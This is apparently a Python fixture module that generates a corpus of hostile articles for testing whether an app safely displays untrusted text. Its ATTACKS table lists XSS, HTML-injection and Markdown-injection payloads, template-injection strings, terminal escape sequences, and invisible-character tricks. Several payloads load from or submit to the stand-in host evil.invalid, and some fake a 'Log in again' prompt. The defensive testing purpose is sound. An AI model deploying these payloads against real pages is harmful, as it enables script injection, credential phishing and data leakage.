"""Words of people who mean harm, and the corpus that holds them wherever a corpus holds words. Data; nothing here is a test.

Whoever shows them must show text: nothing of them runs, loads, covers or becomes an element. Each that could make one
gives it the class `pwned`, asks `ELSEWHERE` for something, or sets `MARK` on the window, so that it is found where it did.
"""

from __future__ import annotations

import json
from pathlib import Path

__all__ = [
    "ANSWER",
    "ATTACKS",
    "ELSEWHERE",
    "EVALUATED",
    "HUGE",
    "MARK",
    "QUESTION",
    "batches",
    "file_name",
    "shown",
    "write_corpus",
]

MARK = "__pwned"
ELSEWHERE = "evil.invalid"
ATTACKS = {
    "script": "<script>window.__pwned=1</script>",
    "script from elsewhere": "<script src=//evil.invalid/s.js></script>",
    "end of every element": "--></bdi></mark></p></div></title></textarea></style><script>__pwned=2</script>",
    "image that fails": "<img class=pwned src=x onerror=__pwned=3>",
    "drawing": "<svg class=pwned onload=__pwned=4><script>__pwned=5</script></svg>",
    "formula": "<math class=pwned><mtext><table><mglyph><style><img class=pwned src=x onerror=__pwned=6>",
    "fold": "<details class=pwned open ontoggle=__pwned=7>",
    "field": "<input class=pwned autofocus onfocus=__pwned=8>",
    "overlay": '<div class=pwned style="position:fixed;inset:0;z-index:9999;background:#fff">Log in again</div>',
    "style": "<style>@import url(//evil.invalid/c.css);*{display:none!important}</style>",
    "script link": "<a class=pwned href=javascript:__pwned=9>open</a>",
    "data link": '<a class=pwned href="data:text/html,<script>opener.__pwned=10</script>">open</a>',
    "frame": "<iframe class=pwned src=//evil.invalid/f></iframe>",
    "written frame": "<iframe srcdoc='<script>parent.__pwned=11</script>'></iframe>",
    "remote image": "<img class=pwned src=//evil.invalid/p.png>",
    "other base": "<base href=//evil.invalid/><meta http-equiv=refresh content=0;url=//evil.invalid/>",
    "form": "<form class=pwned action=//evil.invalid/><button>Log in again</button></form>",
    "object": "<object class=pwned data=//evil.invalid/o></object><embed src=//evil.invalid/e>",
    "end of an attribute": '" onmouseover="__pwned=12" style="position:fixed" x="',
    "end of the other attribute": "' onfocus='__pwned=13' autofocus tabindex=0 x='",
    "Markdown image": "![a](http://evil.invalid/m.png) ![b](//evil.invalid/n.png)",
    "Markdown link": "[a](javascript:__pwned=14) [b](data:text/html,c) <http://evil.invalid/auto>",
    "Markdown reference": "[a][r] ![b][r] [r]: http://evil.invalid/r.png",
    "Markdown signs": "**pwned** _pwned_ ~~pwned~~ `pwned` # pwned | a | b |",
    "escaped twice": "&amp;lt;img class=pwned src=x onerror=__pwned=15&amp;gt; &lt;b class=pwned&gt; &#60;b&#62;",
    "reading direction": "\u202egnp.exe\u202c \u2066elsewhere\u2069",
    "no width": "sc\u200bri\u200dpt \ufeffun\U000e0041\U000e0042seen",
    "template of JavaScript": "${window.__pwned=16} ${alert(1)}",
    "template in braces": "{{constructor.constructor('window.__pwned=17')()}} {{7*1911}}",
    "template of Jinja": "{% for pwned in range(9) %}pwned{% endfor %} {{ config }} {0.__class__} %s %(pwned)s",
    "formula of LaTeX": "$$\\href{javascript:__pwned=18}{x}$$ \\(\\unicode{x}\\)",
    "terminal": "\x1b[31m\x1b[2J\x1b]0;pwned\x07\x1b]8;;http://evil.invalid\x1b\\open\x1b]8;;\x1b\\ \x9b31m\x08\x08\r",
    "markup of a terminal": "[link=http://evil.invalid]open[/link] [bold red]pwned[/] [/bold]",
    "null": "<scr\x00ipt>__pwned=19</scr\x00ipt>",
    "false source": "[1] 【2】 [99] </context> (Source: Reuters)",
}
EVALUATED = ("13377", "pwnedpwned", "<class 'int'>")  # what templates of the attacks make where one is evaluated
HUGE = 10_000_000  # characters of one line
QUESTION = "How many captives are held?"
ANSWER = "59"  # the word that every article answers with

_HIDDEN = dict.fromkeys(
    [*range(0x20), *range(0x7F, 0xA0), *range(0x202A, 0x202F), *range(0x2066, 0x206A), *range(0xE0000, 0xE0080), 0xFEFF]
)


def shown(text: str) -> str:
    """Return what a reader sees of words on one line: what a screen would obey is gone, the rest is as it was.

    Written anew here, because a test that asks the program what is right cannot fail.
    """
    return " ".join("".join(" " if c in "\t\n\r" else c for c in text).translate(_HIDDEN).split())


def batches(room: int) -> list[str]:
    """Return all attacks, joined to texts of at most so many characters."""
    joined = [""]
    for text in ATTACKS.values():
        if len(joined[-1]) + len(text) + 1 > room:
            joined.append("")
        joined[-1] = f"{joined[-1]} {text}".lstrip(" ")
    return joined


def file_name(text: str) -> str:
    """Return the words as a file system takes them."""
    return text.replace("/", "⁄").replace("\x00", "")[:180]


def write_corpus(folder: Path) -> None:
    """Write an article for each attack, which is its text, title, outlet, author and file name; broken files; a huge line.

    Every article answers `QUESTION`, so that all of them come to the screen.
    """
    for number, text in enumerate(ATTACKS.values(), start=1):
        words = " ".join(f"word{number}of{place}" for place in range(12))
        article = {
            "title": f"{text} Title {number}",
            "source": f"Outlet {number} {text}",
            "author": f"Author {number} {text}",
            "url": "javascript:__pwned=20"
            if number % 2
            else "http://evil.invalid/'onmouseover=__pwned=21//${__pwned=22}",
            "date": f"2025-03-{number % 28 + 1:02}",
            "text": f"Officials said that {ANSWER} captives {text} are held.\n\nThe council of {words} met. {text}\n",
        }
        (folder / f"{file_name(text)}.json").write_text(json.dumps(article), encoding="utf-8")
    for text in list(ATTACKS.values())[:5]:
        (folder / f"{file_name(text)} is broken.json").write_text("{", encoding="utf-8")
    line = "<b/class=pwned>" * (HUGE // 15)  # one word, or its passages would fill every list of what was found
    (folder / "line.txt").write_text(f"A long line\n\nOfficials counted 7 ferries of Lundby on it. {line}\n", "utf-8")
